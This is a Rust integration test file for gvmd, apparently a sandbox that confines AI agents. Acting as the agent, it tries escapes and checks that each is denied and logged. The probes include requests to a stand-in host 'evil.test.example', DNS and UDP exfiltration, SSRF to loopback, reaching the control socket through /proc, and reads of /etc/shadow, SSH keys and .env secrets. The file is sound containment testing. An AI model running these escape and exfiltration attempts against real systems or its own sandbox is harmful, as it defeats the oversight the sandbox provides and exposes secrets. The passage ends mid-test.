//! Escape attempts against a real gvmd, made *as the agent* through `gvmctl run` (the
//! docs/attacks.md classes at the level a user meets them): every probe asserts what the agent
//! sees (exit code, output), what the audit log says, and that nothing reached the
//! target (an upstream that records requests, a test host in a network namespace of the
//! test's own, a service on the host's loopback).
//!
//! Privileged: every test needs root (`#[ignore = "needs root"]`, run with --include-ignored). Targets are loopback or test
//! hosts in network namespaces the test creates (10.203.N.2, fd00:203:N::2, wired into
//! the run's fresh netns while the agent waits on its stdin); everything created is
//! removed on drop, also when a test fails (gvmd leaves the `gvm-<profile>` user, and a
//! netns bind if a run dies half-way: `Leftovers` and the test's `Dirs` remove them).
//!
//! `GVMT_VERBOSE=1 cargo test -p gvm-tests --test escape_gvmd -- --nocapture` prints what
//! every probe saw.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::process::Command;
use std::time::{Duration, Instant};

use common::agent::*;
use common::*;
use serde_json::Value;

/// The address gvmd's resolver gives allowed names inside a profile's netns.
const GATEWAY_ANSWER: &str = "169.254.254.1";

/// gvmd.toml: the test names resolve to the local upstreams, optionally an extra root.
fn gvmd_toml(extra_root: Option<&std::path::Path>) -> String {
    let mut t = String::new();
    if let Some(p) = extra_root {
        t.push_str(&format!("[gateway]\nextra_roots = [\"{}\"]\n\n", p.display()));
    }
    t.push_str("[gateway.hosts]\n\"api.test.example\" = [\"127.0.0.1\"]\n\"tls.test.example\" = [\"127.0.0.1\"]\n");
    t
}

/// A profile: the workspace as an overlay, `.env` masked, GET /ok/** allowed on the
/// plain upstream (and on the TLS one when given), everything else denied.
fn profile_toml(sb: &Sandboxed, http_port: u16, tls_port: Option<u16>, agent_extra: &str) -> String {
    let mut t = format!(
        r#"[agent]
workspaces = [{{ path = "{ws}", mode = "overlay" }}]
{agent_extra}

[network]
default = "deny"

[[network.rule]]
host = "api.test.example"
port = {http_port}
methods = ["GET"]
path = "/ok/**"
action = "allow"
"#,
        ws = sb.ws.display()
    );
    if let Some(p) = tls_port {
        t.push_str(&format!(
            "\n[[network.rule]]\nhost = \"tls.test.example\"\nport = {p}\nmethods = [\"GET\"]\npath = \"/ok/**\"\naction = \"allow\"\n"
        ));
    }
    t.push_str("\n[files]\ndeny_read = [\"**/.env\"]\n");
    t
}

/// The JSON body gvm answers a denial with, found in `text`.
fn denial(text: &str) -> Value {
    let start = text.find('{').unwrap_or_else(|| panic!("no JSON in {text:?}"));
    let end = text.rfind('}').unwrap_or_else(|| panic!("no JSON in {text:?}"));
    serde_json::from_str(&text[start..=end]).unwrap_or_else(|e| panic!("{e}: {text:?}"))
}

fn assert_denial(text: &str, profile: &str) {
    let d = denial(text);
    assert!(d["error"].as_str().unwrap_or("").starts_with("gvm denied this request: "), "{d:#}");
    assert_eq!(d["profile"], profile, "{d:#}");
}

/// Events whose `details` has every (key, value) of `want`.
fn matching<'a>(events: &'a [Value], want: &[(&str, Value)]) -> Vec<&'a Value> {
    events.iter().filter(|e| want.iter().all(|(k, v)| &e["details"][*k] == v)).collect()
}

fn assert_event(events: &[Value], decision: &str, want: &[(&str, Value)]) {
    let found = matching(events, want);
    assert!(
        found.iter().any(|e| e["decision"] == decision),
        "no {decision} event with {want:?} among:\n{}",
        events.iter().map(|e| e.to_string()).collect::<Vec<_>>().join("\n")
    );
}

/// Python prelude of the network probes: `probe(name, f)` prints `@@name` and the
/// result or the exception; `http(sock, host, path)` speaks HTTP/1.1 on a socket;
/// `dns(server, name, qtype, tcp)` sends one raw query and returns `rcode=N answers=M`.
const PY_PRELUDE: &str = r#"
import socket, ssl, struct, errno, sys, os
def probe(name, f):
    try:
        r = f()
    except Exception as e:
        en = getattr(e, "errno", None)
        r = "ERR %s %s %s" % (type(e).__name__, errno.errorcode.get(en, en) if isinstance(en, int) else en, e)
    print("@@" + name)
    print(r)
    sys.stdout.flush()
def recv_all(s):
    data = b""
    while True:
        c = s.recv(65536)
        if not c:
            return data.decode(errors="replace")
        data += c
def http(s, host, path):
    s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host)).encode())
    return "answered " + recv_all(s)
def conn(addr, fam=socket.AF_INET, timeout=5):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect(addr)
    return s
def dns_query(name, qtype):
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", qtype, 1)
def dns(server, name, qtype, tcp=False):
    q = dns_query(name, qtype)
    if tcp:
        s = conn((server, 53))
        s.sendall(struct.pack(">H", len(q)) + q)
        r = s.recv(2)
        n = struct.unpack(">H", r)[0]
        r = b""
        while len(r) < n:
            r += s.recv(n - len(r))
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.sendto(q, (server, 53))
        r = s.recv(4096)
    ans = struct.unpack(">H", r[6:8])[0]
    addr = ""
    if ans and qtype == 1:
        addr = " a=" + socket.inet_ntoa(r[-4:])
    return "rcode=%d answers=%d%s" % (r[3] & 15, ans, addr)
"#;

fn py(body: &str) -> String {
    format!("{PY_PRELUDE}\n{body}")
}

// ---------------------------------------------------------------------------------------
// 1. Proxy-aware clients: plain HTTP and HTTPS (CONNECT + interception).
// ---------------------------------------------------------------------------------------

/// Starts gvmd for `sb` with two local upstreams: plain HTTP, and TLS with a test CA of
/// its own that gvmd trusts through `[gateway] extra_roots`.
fn start_with_upstreams(sb: &mut Sandboxed) -> (Upstream, Upstream) {
    let up = Upstream::start(None);
    let ca = TestCa::new(&["tls.test.example"]);
    let tls = Upstream::start(Some(ca.server.clone()));
    let ca_file = sb.dirs.root.path().join("upstream-ca.pem");
    std::fs::write(&ca_file, &ca.ca_pem).unwrap();
    let profile = profile_toml(sb, up.port(), Some(tls.port()), "");
    sb.start(&gvmd_toml(Some(&ca_file)), &profile, &[]);
    (up, tls)
}

#[test]
#[ignore = "needs root"]
fn proxy_aware_http_and_https_are_decided_and_audited() {
    assert_root();
    let mut sb = Sandboxed::new("px");
    let (up, tls) = start_with_upstreams(&mut sb);
    let (p, t) = (up.port(), tls.port());

    let curl = |name: &str, url: &str| {
        format!("echo @@{name}; curl -sS -w '\\nstatus=%{{http_code}} connect=%{{http_connect}}\\n' '{url}' 2>&1; echo \"exit=$?\"; ")
    };
    let script = [
        "echo @@env; echo \"$HTTP_PROXY $HTTPS_PROXY $CURL_CA_BUNDLE\"; ".to_string(),
        curl("http_ok", &format!("http://api.test.example:{p}/ok/1")),
        curl("http_path", &format!("http://api.test.example:{p}/secret")),
        curl("http_host", &format!("http://evil.test.example:{p}/ok/1")),
        curl("https_ok", &format!("https://tls.test.example:{t}/ok/2")),
        curl("https_path", &format!("https://tls.test.example:{t}/secret")),
        curl("https_host", &format!("https://evil.test.example:{t}/ok/3")),
    ]
    .concat();
    let ran = sb.sh(&script);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let s = sections(&ran.out);
    let env = section(&s, "env", &ran);
    assert!(env.starts_with("http://127.0.0.1:3128 http://127.0.0.1:3128 /"), "{env}");

    let ok = section(&s, "http_ok", &ran);
    assert!(ok.starts_with("ok /ok/1\nstatus=200"), "{ok}");
    for name in ["http_path", "http_host"] {
        let text = section(&s, name, &ran);
        assert!(text.contains("status=403"), "{name}: {text}");
        assert_denial(text, &sb.profile);
    }
    let ok = section(&s, "https_ok", &ran);
    assert!(ok.starts_with("ok /ok/2\nstatus=200"), "the agent trusts gvmd's CA, gvmd the upstream's: {ok}");
    let text = section(&s, "https_path", &ran);
    assert!(text.contains("status=403"), "{text}");
    assert_denial(text, &sb.profile);
    // A denied host over HTTPS: refused inside TLS (gvm's leaf), so curl prints the 403
    // naming the request; nothing reaches the upstream (below).
    let text = section(&s, "https_host", &ran);
    assert!(text.contains("status=403 connect=200"), "CONNECT to a denied host is refused inside TLS: {text}");
    assert_denial(text, &sb.profile);
    assert!(
        denial(text)["how_to_get_access"].as_str().unwrap_or("").contains("GET https://evil.test.example:"),
        "{text}"
    );

    // Only the allowed requests reached the upstreams.
    assert_eq!(up.seen(), vec!["GET /ok/1 HTTP/1.1"]);
    assert_eq!(tls.seen(), vec!["GET /ok/2 HTTP/1.1"]);

    let http = sb.events("http");
    assert_event(&http, "allow", &[("path", "/ok/1".into()), ("via", "proxy".into())]);
    assert_event(&http, "deny", &[("path", "/secret".into()), ("host", "api.test.example".into())]);
    assert_event(&http, "deny", &[("host", "evil.test.example".into()), ("via", "proxy".into())]);
    assert_event(
        &http,
        "allow",
        &[("path", "/ok/2".into()), ("host", "tls.test.example".into()), ("scheme", "https".into())],
    );
    assert_event(&http, "deny", &[("path", "/secret".into()), ("host", "tls.test.example".into())]);
    let connect = sb.events("connect");
    assert_event(&connect, "deny", &[("host", "evil.test.example".into()), ("via", "connect".into())]);
    assert_event(
        &http,
        "deny",
        &[("host", "evil.test.example".into()), ("via", "intercept".into()), ("tunnel", "refused".into())],
    );
    // The refused tunnel counts twice: its CONNECT, and the request inside it.
    assert!(ran.summary().contains("2 requests allowed, 5 denied"), "{}", ran.summary());
}

// ---------------------------------------------------------------------------------------
// 2. Proxy-unaware clients: raw sockets resolved through gvmd's DNS, nft-redirected.
// ---------------------------------------------------------------------------------------

#[test]
#[ignore = "needs root"]
fn proxy_unaware_clients_go_through_the_transparent_gateway() {
    assert_root();
    let mut sb = Sandboxed::new("tp");
    let (up, tls) = start_with_upstreams(&mut sb);
    let (p, t) = (up.port(), tls.port());

    let body = format!(
        r#"
ctx = ssl.create_default_context()
probe("resolve_ok", lambda: socket.gethostbyname("api.test.example"))
probe("plain_ok", lambda: http(socket.create_connection(("api.test.example", {p}), timeout=10), "api.test.example:{p}", "/ok/py"))
probe("plain_path", lambda: http(socket.create_connection(("api.test.example", {p}), timeout=10), "api.test.example:{p}", "/secret"))
probe("tls_ok", lambda: http(ctx.wrap_socket(socket.create_connection(("tls.test.example", {t}), timeout=10), server_hostname="tls.test.example"), "tls.test.example:{t}", "/ok/pytls"))
probe("tls_path", lambda: http(ctx.wrap_socket(socket.create_connection(("tls.test.example", {t}), timeout=10), server_hostname="tls.test.example"), "tls.test.example:{t}", "/secret"))
probe("resolve_evil", lambda: socket.getaddrinfo("evil.test.example", {p}))
gw = socket.gethostbyname("api.test.example")
probe("plain_evil", lambda: http(conn((gw, {p})), "evil.test.example:{p}", "/ok/x"))
probe("tls_evil", lambda: http(ctx.wrap_socket(conn((gw, {t})), server_hostname="evil.test.example"), "evil.test.example", "/ok/y"))
"#
    );
    let ran = sb.py(&py(&body));
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let s = sections(&ran.out);
    assert_eq!(section(&s, "resolve_ok", &ran).trim(), GATEWAY_ANSWER);
    let text = section(&s, "plain_ok", &ran);
    assert!(text.starts_with("answered HTTP/1.1 200") && text.contains("ok /ok/py"), "{text}");
    let text = section(&s, "tls_ok", &ran);
    assert!(text.starts_with("answered HTTP/1.1 200") && text.contains("ok /ok/pytls"), "{text}");
    for name in ["plain_path", "tls_path", "plain_evil"] {
        let text = section(&s, name, &ran);
        assert!(text.starts_with("answered HTTP/1.1 403"), "{name}: {text}");
        assert_denial(text, &sb.profile);
    }
    let text = section(&s, "resolve_evil", &ran);
    assert!(text.starts_with("ERR gaierror"), "a denied name does not resolve: {text}");
    // TLS to a denied SNI: refused inside TLS (gvm's leaf), the request named; nothing
    // reaches the upstream (below).
    let text = section(&s, "tls_evil", &ran);
    assert!(text.starts_with("answered HTTP/1.1 403"), "TLS to a denied SNI is refused inside TLS: {text}");
    assert_denial(text, &sb.profile);
    assert!(text.contains("gvm denied this request: GET https://evil.test.example:"), "{text}");

    assert_eq!(up.seen(), vec!["GET /ok/py HTTP/1.1"]);
    assert_eq!(tls.seen(), vec!["GET /ok/pytls HTTP/1.1"]);

    let http = sb.events("http");
    assert_event(&http, "allow", &[("path", "/ok/py".into()), ("via", "transparent".into())]);
    assert_event(
        &http,
        "deny",
        &[("path", "/secret".into()), ("host", "api.test.example".into()), ("via", "transparent".into())],
    );
    assert_event(&http, "allow", &[("path", "/ok/pytls".into()), ("scheme", "https".into())]);
    assert_event(&http, "deny", &[("path", "/secret".into()), ("host", "tls.test.example".into())]);
    assert_event(&http, "deny", &[("host", "evil.test.example".into()), ("via", "transparent".into())]);
    assert_event(&http, "deny", &[("path", "/ok/y".into()), ("scheme", "https".into()), ("tunnel", "refused".into())]);
    let connect = sb.events("connect");
    assert_event(&connect, "deny", &[("host", "evil.test.example".into()), ("via", "transparent".into())]);
    let dns = sb.events("dns");
    assert_event(&dns, "allow", &[("name", "api.test.example".into())]);
    assert_event(&dns, "deny", &[("name", "evil.test.example".into())]);
    // The run's summary counts DNS decisions too (it said "0 denied" after a flood).
    let n = |d: &str| dns.iter().filter(|e| e["decision"] == d).count();
    let want = format!("; {} DNS names answered, {} refused;", n("allow"), n("deny"));
    assert!(n("deny") > 0 && ran.summary().contains(&want), "{want:?} not in {}", ran.summary());
}

// ---------------------------------------------------------------------------------------
// 3. Direct TCP and IPv6 to a test host; 6. UDP, raw sockets, DNS.
// ---------------------------------------------------------------------------------------

/// Starts a sandbox with the usual profile and runs the python `body` as the agent,
/// after wiring test host `n` into the run's netns (gvmd makes a fresh netns per run:
/// the agent waits on its stdin until the test host is there).
fn with_test_host(tag: &str, n: u8, body: &str) -> (Sandboxed, Upstream, TestHost, Ran) {
    let mut sb = Sandboxed::new(tag);
    let up = Upstream::start(None);
    let profile = profile_toml(&sb, up.port(), None, "");
    sb.start(&gvmd_toml(None), &profile, &[]);
    let script = py(&format!("sys.stdin.readline()\n{body}"));
    let mut running = sb.spawn(&["/usr/bin/python3", "-c", &script]);
    let host = TestHost::new(&sb.netns_path(), n);
    running.go();
    let ran = running.finish(Duration::from_secs(120));
    (sb, up, host, ran)
}

#[test]
#[ignore = "needs root"]
fn direct_tcp_and_ipv6_to_a_test_host_never_arrive() {
    assert_root();
    let (v4, v6) = TestHost::addrs(31);
    let body = format!(
        r#"
probe("v4_http", lambda: http(conn(("{v4}", 8080)), "{v4}:8080", "/"))
probe("v4_fronted", lambda: http(conn(("{v4}", 8080)), "api.test.example:8080", "/ok/1"))
def noname():
    s = conn(("{v4}", 8080))
    s.sendall(b"hello, no name here\r\n\r\n")
    return "answered " + recv_all(s)
probe("v4_noname", noname)
probe("v4_mapped", lambda: http(conn(("::ffff:{v4}", 8080), socket.AF_INET6), "{v4}:8080", "/"))
probe("v6", lambda: http(conn(("{v6}", 8080), socket.AF_INET6, 3), "[{v6}]:8080", "/"))
import subprocess
def curl(*args):
    p = subprocess.run(["curl", "-sS", "-w", "\\nstatus=%{{http_code}}\\n", *args], capture_output=True, text=True)
    return p.stdout + p.stderr + "exit=%d" % p.returncode
probe("curl_proxy", lambda: curl("http://{v4}:8080/"))
probe("curl_noproxy", lambda: curl("--noproxy", "*", "http://{v4}:8080/"))
probe("curl_v6", lambda: curl("--noproxy", "*", "--max-time", "3", "http://[{v6}]:8080/"))
"#
    );
    let (sb, up, host, ran) = with_test_host("tcp", 31, &body);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let s = sections(&ran.out);
    for name in ["v4_http", "v4_fronted", "v4_mapped"] {
        let text = section(&s, name, &ran);
        assert!(text.starts_with("answered HTTP/1.1 403"), "{name}: the gateway answers, not the host: {text}");
        assert_denial(text, &sb.profile);
    }
    let text = section(&s, "v4_noname", &ran);
    assert_eq!(text.trim(), "answered", "a nameless connection is closed: {text}");
    let text = section(&s, "v6", &ran);
    assert!(text.starts_with("ERR"), "IPv6 is dropped: {text}");

    // The same with curl, through the proxy and around it.
    for name in ["curl_proxy", "curl_noproxy"] {
        let text = section(&s, name, &ran);
        assert!(text.contains("status=403"), "{name}: {text}");
        assert_denial(text, &sb.profile);
    }
    let text = section(&s, "curl_v6", &ran);
    assert!(!text.contains("exit=0"), "{text}");

    host.assert_untouched();
    assert!(up.seen().is_empty(), "a request naming the allowed host on another port got through: {:?}", up.seen());
    let http = sb.events("http");
    assert_event(&http, "deny", &[("host", v4.as_str().into()), ("via", "transparent".into())]);
    assert_event(&http, "deny", &[("host", v4.as_str().into()), ("via", "proxy".into())]);
    assert_event(&http, "deny", &[("host", "api.test.example".into()), ("port", 8080.into())]);
    let connect = sb.events("connect");
    assert_event(&connect, "deny", &[("dst", format!("{v4}:8080").into())]);
}

#[test]
#[ignore = "needs root"]
fn udp_raw_sockets_and_dns_egress_are_contained() {
    assert_root();
    let (v4, _) = TestHost::addrs(32);
    let secret = format!("s3cr3t-{}.evil.test.example", std::process::id());
    let body = format!(
        r#"
def udp(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return "sent %d" % s.sendto(b"exfil", addr)
probe("udp", lambda: udp(("{v4}", 9999)))
probe("raw_icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
probe("raw_tcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))
probe("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
def ping():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    return "sent %d" % s.sendto(b"\x08\x00\x00\x00\x00\x01\x00\x01", ("{v4}", 0))
probe("ping", ping)
probe("dns_a", lambda: dns("127.0.0.1", "{secret}", 1))
probe("dns_aaaa", lambda: dns("127.0.0.1", "{secret}", 28))
probe("dns_txt", lambda: dns("127.0.0.1", "{secret}", 16))
probe("dns_any_tcp", lambda: dns("127.0.0.1", "{secret}", 255, True))
probe("dns_hardcoded", lambda: dns("{v4}", "{secret}", 1))
probe("dns_hardcoded_tcp", lambda: dns("{v4}", "{secret}", 16, True))
probe("dns_hardcoded_allowed", lambda: dns("{v4}", "api.test.example", 1))
probe("getaddrinfo", lambda: socket.getaddrinfo("{secret}", 443))
"#
    );
    let (sb, _up, host, ran) = with_test_host("udp", 32, &body);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let s = sections(&ran.out);
    for name in ["raw_icmp", "raw_tcp", "packet"] {
        let text = section(&s, name, &ran);
        assert!(text.starts_with("ERR PermissionError EPERM"), "{name}: seccomp refuses it: {text}");
    }
    for name in ["udp", "ping"] {
        // Refused locally (EPERM from the netns's filter, EACCES for ICMP sockets) or
        // silently dropped: either way nothing arrives (asserted below).
        eprintln!("{name}: {}", section(&s, name, &ran).trim());
    }
    for name in ["dns_a", "dns_aaaa", "dns_txt", "dns_any_tcp", "dns_hardcoded", "dns_hardcoded_tcp"] {
        let text = section(&s, name, &ran);
        assert!(text.starts_with("rcode=3 answers=0"), "{name}: NXDOMAIN from gvmd: {text}");
    }
    let text = section(&s, "dns_hardcoded_allowed", &ran);
    assert_eq!(text.trim(), format!("rcode=0 answers=1 a={GATEWAY_ANSWER}"), "gvmd's resolver answered, not the host");
    let text = section(&s, "getaddrinfo", &ran);
    assert!(text.starts_with("ERR gaierror"), "{text}");

    host.assert_untouched();
    let dns = sb.events("dns");
    let secret_v: Value = secret.as_str().into();
    for (qtype, transport) in [(1, "udp"), (28, "udp"), (16, "udp"), (255, "tcp"), (16, "tcp")] {
        assert_event(
            &dns,
            "deny",
            &[("name", secret_v.clone()), ("qtype", qtype.into()), ("transport", transport.into())],
        );
    }
    // Every query is accounted for: identical ones (the same question to gvmd's resolver
    // and to a hard-coded one) fold into a counted event written within a tick (2 s).
    let decisions =
        |events: &[&Value]| -> u64 { events.iter().map(|e| e["details"]["folded"].as_u64().unwrap_or(1)).sum() };
    wait_for(Duration::from_secs(10), "every query audited", || {
        decisions(&matching(&sb.events("dns"), &[("name", secret_v.clone())])) >= 7
    });
    let dns = sb.events("dns");
    let asked = matching(&dns, &[("name", secret_v.clone())]);
    assert!(asked.iter().all(|e| e["decision"] == "deny"), "{asked:#?}");
    assert!(decisions(&asked) >= 7, "every query is audited: {asked:#?}");
}

// ---------------------------------------------------------------------------------------
// 4. The host's loopback services.
// ---------------------------------------------------------------------------------------

#[test]
#[ignore = "needs root"]
fn host_loopback_services_are_unreachable_by_ip() {
    assert_root();
    let mut sb = Sandboxed::new("lo");
    let svc = LoopbackService::start();
    // Even a profile that allows every host: the gateway's SSRF check refuses loopback.
    let profile = format!(
        "[agent]\nworkspaces = [{{ path = \"{}\", mode = \"overlay\" }}]\n\n[[network.rule]]\nhost = \"*\"\naction = \"allow\"\n",
        sb.ws.display()
    );
    sb.start("", &profile, &[]);
    let port = svc.port;
    let body = format!(
        r#"
probe("lo_ip", lambda: http(conn(("127.0.0.1", {port})), "127.0.0.1:{port}", "/"))
probe("lo_name", lambda: http(conn(("127.0.0.1", {port})), "localhost:{port}", "/"))
probe("lo_v6", lambda: http(conn(("::1", {port}), socket.AF_INET6, 3), "[::1]:{port}", "/"))
def raw():
    s = conn(("127.0.0.1", {port}))
    s.sendall(b"PING\r\n\r\n")
    return "answered " + recv_all(s)
probe("lo_noname", raw)
"#
    );
    let ran = sb.py(&py(&body));
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let s = sections(&ran.out);
    for name in ["lo_ip", "lo_name"] {
        let text = section(&s, name, &ran);
        assert!(text.starts_with("answered HTTP/1.1 403"), "{name}: {text}");
        assert_denial(text, &sb.profile);
    }
    let text = section(&s, "lo_v6", &ran);
    assert!(text.starts_with("ERR"), "{text}");
    assert_eq!(section(&s, "lo_noname", &ran).trim(), "answered");
    let ran2 = sb.sh(&format!(
        "for u in http://127.0.0.1:{port}/ http://localhost:{port}/ http://[::1]:{port}/ http://0.0.0.0:{port}/ \
         http://127.0.0.1:3128/ http://127.0.0.1:3129/ http://{GATEWAY_ANSWER}:3129/; do \
         echo \"@@$u\"; curl -sS -w '\\nstatus=%{{http_code}}\\n' $u 2>&1; done"
    ));
    for (name, text) in sections(&ran2.out) {
        assert!(!text.contains("status=200") && text.contains("status=4"), "{name}: {text}");
    }

    svc.assert_untouched();
    let http = sb.events("http");
    // The gateway does not talk to itself either (class 16).
    assert_event(&http, "deny", &[("port", 3128.into()), ("ssrf", true.into())]);
    assert_event(&http, "deny", &[("port", 3129.into()), ("ssrf", true.into())]);
    let port_v: Value = port.into();
    let denied = matching(&http, &[("port", port_v.clone())]);
    assert!(denied.len() >= 5 && denied.iter().all(|e| e["decision"] == "deny"), "{denied:#?}");
    assert_event(&http, "deny", &[("host", "127.0.0.1".into()), ("via", "transparent".into()), ("ssrf", true.into())]);
    assert!(matching(&http, &[("port", port_v)]).iter().all(|e| e["details"]["addr"].is_null()));
}

// ---------------------------------------------------------------------------------------
// 5. gvmd's control socket.
// ---------------------------------------------------------------------------------------

#[test]
#[ignore = "needs root"]
fn the_control_socket_is_out_of_the_agents_reach() {
    assert_root();
    let mut sb = Sandboxed::outside_tmp("ctl");
    let up = Upstream::start(None);
    let profile = profile_toml(&sb, up.port(), None, "");
    sb.start(&gvmd_toml(None), &profile, &[]);
    let sock = sb.dirs.socket();
    let pid = sb.gvmd().pid();
    let body = format!(
        r#"
def unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(path)
    s.sendall(b"GET /v1/status HTTP/1.1\r\nHost: gvmd\r\nConnection: close\r\n\r\n")
    return "CONNECTED " + recv_all(s)
for p in ["{sock}", "/proc/{pid}/root{sock}", "/proc/1/root{sock}", "/proc/self/root{sock}", "/run/gvm/gvmd.sock"]:
    probe("unix " + p, lambda: unix(p))
probe("ls_runtime", lambda: os.listdir("{runtime}"))
probe("ls_run", lambda: os.listdir("/run"))
probe("gvmd_proc", lambda: open("/proc/{pid}/cmdline").read())
probe("abstract", lambda: unix("\0gvmd"))
"#,
        sock = sock.display(),
        runtime = sb.dirs.runtime.display(),
    );
    let ran = sb.py(&py(&body));
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let s = sections(&ran.out);
    for (name, text) in &s {
        assert!(!text.contains("CONNECTED"), "{name}: {text}");
    }
    assert_eq!(section(&s, "ls_runtime", &ran).trim(), "[]", "the runtime dir is masked");
    assert_eq!(section(&s, "ls_run", &ran).trim(), "[]", "/run is masked");
    let text = section(&s, "gvmd_proc", &ran);
    assert!(text.starts_with("ERR") || !text.contains("gvmd"), "gvmd's /proc entry is not visible: {text}");
    // Nothing even knocked: gvmd records every refused control connection.
    let all = events_json(&sb.dirs);
    assert!(!kinds(&all).iter().any(|k| k == "control_refused"), "{all:#?}");
}

// ---------------------------------------------------------------------------------------
// 7. Secrets.
// ---------------------------------------------------------------------------------------

#[test]
#[ignore = "needs root"]
fn secrets_are_out_of_the_agents_reach() {
    assert_root();
    let mut sb = Sandboxed::outside_tmp("sec");
    let up = Upstream::start(None);
    let pid = std::process::id();
    let env_secret = format!("GVMD-ENV-SECRET-{pid}");
    let fake_home = std::path::PathBuf::from(format!("/root/.ssh-gvmt-{pid}"));
    sb.leftovers.paths.push(fake_home.clone());
    std::fs::create_dir_all(&fake_home).unwrap();
    std::fs::write(fake_home.join("id_test"), format!("SSH-SECRET-{pid}")).unwrap();
    std::fs::set_permissions(fake_home.join("id_test"), std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::write(sb.ws.join(".env"), format!("API_KEY=DOTENV-SECRET-{pid}\n")).unwrap();
    std::fs::set_permissions(sb.ws.join(".env"), std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::write(sb.ws.join("README"), "visible\n").unwrap();
    let profile = profile_toml(&sb, up.port(), None, "");
    sb.start(&gvmd_toml(None), &profile, &[("GVMT_SECRET", &env_secret)]);
    let state = sb.dirs.state.clone();
    assert!(state.join("ca/ca.key").is_file() && sb.dirs.db().is_file(), "the secrets exist on the host");
    let gvmd_pid = sb.gvmd().pid();
    let files = [
        format!("{}/.env", sb.ws.display()),
        format!("{}/ca/ca.key", state.display()),
        format!("{}/audit.db", state.display()),
        format!("/proc/{gvmd_pid}/environ"),
        "/proc/1/environ".to_string(),
        format!("{}/id_test", fake_home.display()),
        "/etc/shadow".to_string(),
        "/etc/gshadow".to_string(),
    ];
    let script = format!(
        "for f in {}; do echo \"@@$f\"; head -c 400 \"$f\" 2>&1; echo; done; \
         echo @@ls_root; ls -A /root 2>&1; echo @@ls_state; ls -A {state} 2>&1; \
         echo @@ls_agents; ls -A {state}/agents 2>&1; echo @@ls_own; ls -A {state}/agents/{p} 2>&1; echo @@env; env; \
         echo @@readme; cat README",
        files.join(" "),
        state = state.display(),
        p = sb.profile,
    );
    let ran = sb.sh(&script);
    let s = sections(&ran.out);
    for secret in [
        format!("DOTENV-SECRET-{pid}"),
        format!("SSH-SECRET-{pid}"),
        env_secret.clone(),
        "PRIVATE KEY".to_string(),
        "SQLite format".to_string(),
        "root:".to_string(),
        "CARGO".to_string(),
    ] {
        assert!(!ran.out.contains(&secret) && !ran.err.contains(&secret), "{secret} leaked: {ran:#?}");
    }
    for f in &files {
        let text = section(&s, f, &ran);
        assert!(
            text.contains("No such file") || text.contains("Permission denied") || text.trim().is_empty(),
            "{f}: {text}"
        );
    }
    assert_eq!(section(&s, "ls_root", &ran).trim(), "", "/root is empty for the agent");
    // Only the way to the agent's own home (<state>/agents/P/home) is left of the state dir.
    assert_eq!(section(&s, "ls_state", &ran).trim(), "agents", "the state dir is hidden");
    assert_eq!(section(&s, "ls_agents", &ran).trim(), sb.profile, "other agents' state is hidden");
    assert_eq!(section(&s, "ls_own", &ran).trim(), "home", "the agent's overlay dirs are hidden");
    assert_eq!(section(&s, "readme", &ran).trim(), "visible");
    assert!(section(&s, "env", &ran).contains("HTTPS_PROXY=http://127.0.0.1:3128"));
}

/// The policy the agent runs under is hidden wherever gvmd reads it from: `/etc/gvm` is
/// masked by name, and the state and runtime dirs are masked wherever they are — the
/// config dir must be too (`gvmd --config-dir DIR` is documented in the README).
#[test]
#[ignore = "needs root"]
fn a_custom_config_dir_is_hidden_like_etc_gvm() {
    assert_root();
    let mut sb = Sandboxed::outside_tmp("cfg");
    let up = Upstream::start(None);
    let profile = profile_toml(&sb, up.port(), None, "");
    sb.start(&gvmd_toml(None), &profile, &[]);
    sb.dirs.write_profile("other", "[[network.rule]]\nhost = \"other-tenant.example\"\naction = \"allow\"\n");
    let config = sb.dirs.config.display().to_string();
    let ran = sb.sh(&format!("ls -A {config} 2>&1; cat {config}/gvmd.toml {config}/profiles/*.toml 2>&1"));
    for leak in ["gateway.hosts", "network.rule", "other-tenant.example"] {
        assert!(!ran.out.contains(leak), "the agent reads gvmd's configuration ({leak}): {ran:#?}");
    }
    // `ls` lists nothing: no `profiles` or `gvmd.toml` line (error messages name the
    // paths the agent tried, so only whole lines count).
    assert!(
        !ran.out.lines().any(|l| l == "profiles" || l == "gvmd.toml"),
        "the agent lists gvmd's config dir: {ran:#?}"
    );
}

// ---------------------------------------------------------------------------------------
// 8. Writes: overlay, SIGKILL mid-write.
// ---------------------------------------------------------------------------------------

#[test]
#[ignore = "needs root"]
fn workspace_writes_land_in_the_upper_dir_only() {
    assert_root();
    let mut sb = Sandboxed::new("ovl");
    let up = Upstream::start(None);
    std::fs::write(sb.ws.join("code.py"), "original\n").unwrap();
    std::fs::set_permissions(sb.ws.join("code.py"), std::fs::Permissions::from_mode(0o666)).unwrap();
    let profile = profile_toml(&sb, up.port(), None, "");
    sb.start(&gvmd_toml(None), &profile, &[]);
    let ran = sb.sh("echo changed > code.py && echo new > new.txt && rm -f gone.txt; cat code.py new.txt; pwd");
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    assert_eq!(ran.out, format!("changed\nnew\n{}\n", sb.ws.display()));
    assert_eq!(std::fs::read_to_string(sb.ws.join("code.py")).unwrap(), "original\n", "the real file is untouched");
    assert!(!sb.ws.join("new.txt").exists());
    let upper = sb.upper();
